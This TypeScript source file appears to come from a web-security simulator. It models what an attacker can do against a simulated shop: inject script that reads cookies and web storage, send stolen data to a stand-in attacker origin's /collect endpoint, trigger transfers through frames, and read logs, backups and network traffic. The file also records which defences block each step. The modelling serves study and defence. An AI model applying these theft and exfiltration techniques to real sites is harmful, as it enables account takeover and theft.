/** What an attacker can do in an attack: with a program at home always, and with what was granted. Not: what a given attack does (attacks/). */
import { scriptView } from '#cookies/cookie-jar';
import { field, type Fields, type HttpRequest, type HttpResponse } from '#http/message';
import { encodeUtf8 } from '#text/utf8';
import type { Attack, Grant, Hands } from './attack';
import { loadImage, navigate, openFrame, setTab, submitForm, tabAt, type Place } from '../browser/browser';
import { ISSUER } from '../shop/access-token';
import { issueToken } from './issue-token';
import { cookiesIn, knownCredentials } from './known-credentials';
import { answerInClear, openInClear } from './on-the-network';
import { preparedBy } from './prepared-by';
import type { Stolen } from './stolen';
import { learnedAt, learnedFrom } from '../browser/learned';
import { openPage } from '../browser/page';
import { fetchCode, logInAtShop, takeCode } from '../browser/partner-login';
import { allowsInlineScript } from '../browser/page-policy';
import { defencesOn } from '../defences';
import { carrierOf, type NamedCredential } from '../named-credential';
import { attackersTab, workerOf, type TabId } from '../run/party';
import { ATTACKER_ORIGIN, BILLING_ORIGIN, ORIGIN } from '../origins';
import { alicesPassword } from '../shop/alices-password';
import { ATTACKER_NAME, ATTACKER_PASSWORD, USERNAME } from '../shop/shop';
import type { Stage } from '../run/stage';
import type { Happening } from '../run/trace';

const VICTIM_SHOP: Place = { userAgent: 'victim', tab: 'shop' };
const FRAME: Place = { userAgent: 'victim', tab: 'frame' };

/**
 * The hands for one attack.
 * @param meanwhile does an act of the victim's or the shop's people
 * @throws Error when the attack reaches for what it was not granted, from the method that would give it
 */
export const giveHands = (
  attack: Pick<Attack, 'id' | 'grants'>,
  stage: Stage,
  meanwhile: (id: string) => Promise<void>,
): Hands => {
  const { setup, mode } = stage;
  const known = knownCredentials(mode, setup);
  const need = (grant: Grant) => {
    if (!attack.grants.includes(grant)) throw new Error(`${attack.id} was not granted ${grant}.`);
  };

  const send: Hands['send'] = (method, path, fields = [], content = '') => {
    const url = new URL(path, ORIGIN).href;
    // A program says what it likes, so a check of Origin is no hindrance to it.
    const origin: Fields = method === 'GET' ? [] : [['Origin', ORIGIN]];
    const length: Fields = method === 'GET' ? [] : [['Content-Length', String(encodeUtf8(content).length)]];
    const request = {
      method,
      url,
      fields: [['Host', new URL(url).host], ...origin, ...length, ...fields] as Fields,
      content,
    };
    return stage.exchange(request, { by: { type: 'tool', userAgent: 'attacker' }, initiator: 'tool' });
  };
  const took = (from: Happening['from'] & string, says: string, taken: readonly Stolen[]) => {
    stage.add({ type: 'attacker', says, from, took: taken });
  };

  const victim = async () => ({
    username: USERNAME,
    password: await alicesPassword(stage.world().server),
  });

  const openAt = async (tab: TabId): Promise<Place> => {
    const place: Place = { userAgent: 'victim', tab };
    setTab(stage, place, {});
    return place;
  };

  /** All that a browser holds of the shop's. */
  const heldAt = (place: Place): Stolen[] => {
    const { jar, localStorage } = stage.world().userAgents[place.userAgent];
    const { memory, sessionStorage } = tabAt(stage, place);
    const worker = tabAt(stage, { ...place, tab: workerOf(place.tab) });
    const cookies = jar.filter(({ domain }) => domain === new URL(ORIGIN).host);
    return [
      ...cookies.map(({ name, value }): Stolen => ({ type: 'cookie', name, value })),
      ...[memory, worker.memory, localStorage[ORIGIN] ?? {}, sessionStorage].flatMap((values) =>
        known.among(values),
      ),
    ];
  };

  return {
    mode,
    setup,
    known,
    note: (says, made) => {
      stage.add({ type: 'attacker', says, ...(made ? { took: made } : {}) });
    },
    send,
    replay: async (stolen, method, path, content, contentType = 'application/json') => {
      const fields: Fields = [
        ...(content === undefined ? [] : [['Content-Type', contentType] as const]),
        ...known.toSend(stolen),
      ];
      // Anyone with the page's key prepares a request as the page does.
      if (!stolen.some(({ type }) => type === 'key')) return send(method, path, fields, content);
      const request = { method, url: path, fields };
      const sendWith = async (learned: Readonly<Record<string, string>>): Promise<HttpResponse> => {
        const { clock } = stage.world();
        return send(method, path, await preparedBy(stage, request, clock, (name) => learned[name]), content);
      };
      const response = await sendWith({});
      const learned = learnedFrom(stage, response);
      // What the shop asks for it says in its answer, to the attacker too.
      return response.status === 401 && Object.keys(learned).length > 0 ? sendWith(learned) : response;
    },
    meanwhile,
    wait: (seconds) => {
      stage.wait(Math.min(seconds, stage.patience ?? seconds));
    },
    refreshInTwoTabs: async () => {
      const { refresh } = mode.script;
      if (typeof refresh === 'string') return;
      // Both requests leave with the cookies of this moment; the shop answers one after the other.
      const left = stage.world().userAgents.victim;
      await refresh(openPage(stage, VICTIM_SHOP, left));
      await refresh(openPage(stage, { userAgent: 'victim', tab: 'second' }, left));
    },
    inject: async (markup) => {
      need('markup in a page of the shop');
      await send('POST', '/reviews', [['Content-Type', 'text/plain']], markup);
      // What the page's own variables held is loaded anew by the shop's script; the tab is the one that is logged in.
      const { memory } = tabAt(stage, VICTIM_SHOP);
      const response = await navigate(stage, VICTIM_SHOP, `${ORIGIN}/product`, ORIGIN, memory);
      if (!response.content.includes(markup)) {
        stage.add({ type: 'blocked', says: 'The page shows the markup as text, so none of it runs.' });
        return undefined;
      }
      if (!allowsInlineScript(tabAt(stage, VICTIM_SHOP).policy)) {
        stage.add({
          type: 'blocked',
          says: 'The page’s Content-Security-Policy blocks inline script.',
        });
        return undefined;
      }
      const page = openPage(stage, VICTIM_SHOP);
      return {
        ...page,
        readStorage: () => {
          const agent = stage.world().userAgents.victim;
          // A cookie's path hides nothing: script can open a page there and look (RFC 6265bis section 8.5).
          const paths = mode.credentials(setup).flatMap(({ exchangedAt }) => exchangedAt ?? []);
          const shown = ['/', ...paths].map((path) =>
            scriptView(agent.jar, `${ORIGIN}${path}`, stage.world().clock),
          );
          const cookies = [...new Set(shown.flatMap((text) => text.split('; ')))].join('; ');
          stage.add({
            type: 'script',
            by: { type: 'page', ...VICTIM_SHOP },
            area: 'document.cookie',
            did: 'read',
            name: '',
            says: 'The injected script reads document.cookie.',
            ...(cookies === '' ? {} : { value: cookies }),
          });
          const held = agent.localStorage[ORIGIN] ?? {};
          const { sessionStorage } = tabAt(stage, VICTIM_SHOP);
          for (const name of Object.keys(held))
            page.read('localStorage', name, 'The injected script reads localStorage.');
          for (const name of Object.keys(sessionStorage))
            page.read('sessionStorage', name, 'The injected script reads sessionStorage.');
          return [...cookiesIn(cookies), ...known.among(held), ...known.among(sessionStorage)];
        },
        prepareAhead: (method, url, fields, seconds) =>
          preparedBy(
            stage,
            { method, url, fields },
            stage.world().clock + seconds,
            learnedAt(stage, VICTIM_SHOP),
          ),
        sendHome: async (text) => {
          await page.send('POST', `${ATTACKER_ORIGIN}/collect`, [], text, {
            mode: 'no-cors',
            credentials: 'omit',
          });
        },
      };
    },
    ownPage: async (origin) => {
      need('a page that the victim opens');
      const place = await openAt(origin === undefined ? 'evil' : attackersTab(origin));
      const page = openPage(stage, place);
      return {
        send: (...wanted) => page.send(...wanted),
        form: (method, url, content) => submitForm(stage, place, method, url, content),
        image: (url) => loadImage(stage, place, url),
        link: async (url) => {
          await navigate(stage, place, url, page.origin);
        },
        clickInFrame: async () => {
          if (!(await openFrame(stage, FRAME, `${ORIGIN}/product?to=${ATTACKER_NAME}&cents=5000`))) return;
          // Her click makes the shop's own script send it.
          await mode.script.request(openPage(stage, FRAME), 'POST', '/transfer', {
            to: ATTACKER_NAME,
            cents: 5000,
          });
        },
        openPartner: (url) => takeCode(stage, url, page.origin),
        openLogin: async (url) => {
          const location = await logInAtShop(stage, url, page.origin, await victim());
          if (location === undefined) return;
          const to = new URL(location);
          // A browser asks the host; what is before the @ is dropped.
          to.username = '';
          const answer = await navigate(stage, place, to.href, ORIGIN);
          const further = field(answer, 'Location');
          if (further !== undefined) await navigate(stage, place, further, ORIGIN);
        },
      };
    },
    siblingPage: (origin) => {
      need('script on a sibling host');
      const place: Place = {
        userAgent: 'victim',
        tab: origin === undefined ? 'photos' : attackersTab(origin),
      };
      return {
        ...openPage(stage, place),
        form: (method, url, content) => submitForm(stage, place, method, url, content),
      };
    },
    seenByService: () => {
      need('a service of the shop');
      const seen = stage.steps.flatMap(({ event }) =>
        event.type === 'exchange' && new URL(event.request.url).origin === BILLING_ORIGIN
          ? [event.request]
          : [],
      );
      took(
        'log',
        'The billing service keeps the credential that it received.',
        seen.flatMap((request) => known.inRequest(request)),
      );
      return seen.toReversed();
    },
    signToken: async (audience) => {
      need('the signing key');
      // Named as special, so that no defence has a say in it.
      const special = { issuer: ISSUER, ...(audience === undefined ? {} : { audience }) };
      const { token } = await issueToken(stage, special);
      const says = 'The attacker signs a token for Alice with the shop’s key.';
      stage.add({ type: 'attacker', says, took: [{ type: 'token', value: token }] });
      return token;
    },
    listen: async (path) => {
      need('the network');
      const request = await openInClear(stage, path);
      if (request)
        took('network', 'The attacker reads the request on the network.', known.inRequest(request));
      return request;
    },
    answerInClear: async (path, setCookies) => {
      need('the network');
      await answerInClear(stage, path, setCookies);
    },
    log: () => {
      need('a log of requests');
      const requests = [...stage.before, ...stage.steps].flatMap(({ event }) =>
        event.type === 'exchange' && event.by.type === 'page' && event.by.userAgent === 'victim'
          ? [event.request]
          : [],
      );
      const logged = requests.filter((request) => known.inRequest(request).length > 0).toReversed();
      // The same credential is in many lines.
      const goodFor = (line: HttpRequest) => JSON.stringify([line.method, line.url, known.inRequest(line)]);
      const lines = logged.filter(
        (line, at) => logged.findIndex((each) => goodFor(each) === goodFor(line)) === at,
      );
      if (lines.length > 0) {
        took(
          'log',
          'The attacker reads the log.',
          lines.flatMap((line) => known.inRequest(line)),
        );
      }
      return lines;
    },
    redirect: async () => {
      need('the redirect with a code');
      const address = await fetchCode(stage, await victim());
      if (address === undefined) return undefined;
      const value = new URL(address).searchParams.get('code') ?? '';
      took('network', 'The attacker sees the redirect with the code.', [{ type: 'code', value }]);
      return { address, goOn: () => takeCode(stage, address, ORIGIN) };
    },
    arrived: () => stage.world().collected.toReversed(),
    backup: () => {
      need('a backup of the database');
      const { server } = stage.world();
      const rows: readonly (readonly [NamedCredential['name'], readonly string[]])[] = [
        ['session identifier', server.sessions.map(({ idHash }) => idHash)],
        ['refresh token', server.refreshTokens.map(({ tokenHash }) => tokenHash)],
      ];
      took(
        'backup',
        'The attacker reads the backup of the database.',
        rows.flatMap(([called, values]) => values.flatMap((value) => known.as(called, value) ?? [])),
      );
      return server;
    },
    copy: () => {
      need('a copy of the browser');
      // Tokens in cookies are bound to none.
      const bound = carrierOf(mode, setup) === 'bearer' ? defencesOn(setup) : [];
      const keys = bound.flatMap(({ pageKey: value }): Stolen[] =>
        value === undefined ? [] : [{ type: 'key', value }],
      );
      const copied = [...heldAt(VICTIM_SHOP), ...keys];
      took(
        'browser',
        keys.length > 0
          ? 'The attacker copies everything in Alice’s browser, including the page’s private key.'
          : 'The attacker copies everything in Alice’s browser.',
        copied,
      );
      return copied;
    },
    ownAccount: async () => {
      need('an account');
      const place: Place = { userAgent: 'attacker', tab: 'shop' };
      await mode.script.logIn(openPage(stage, place), ATTACKER_NAME, ATTACKER_PASSWORD);
      return heldAt(place);
    },
    otherToken: async (special) => {
      need('a token for another use');
      const issued = await issueToken(stage, special);
      stage.setServer(
        `${special.issuer ?? 'The shop'} issues ${special.typ === undefined ? 'a token' : `a token of the type ${special.typ}`} for ${special.audience ?? 'the shop’s API'}, and the attacker gets it.`,
        () => issued.state,
      );
      took('issuer', 'The attacker gets the token.', [{ type: 'token', value: issued.token }]);
      return issued.token;
    },
  };
};
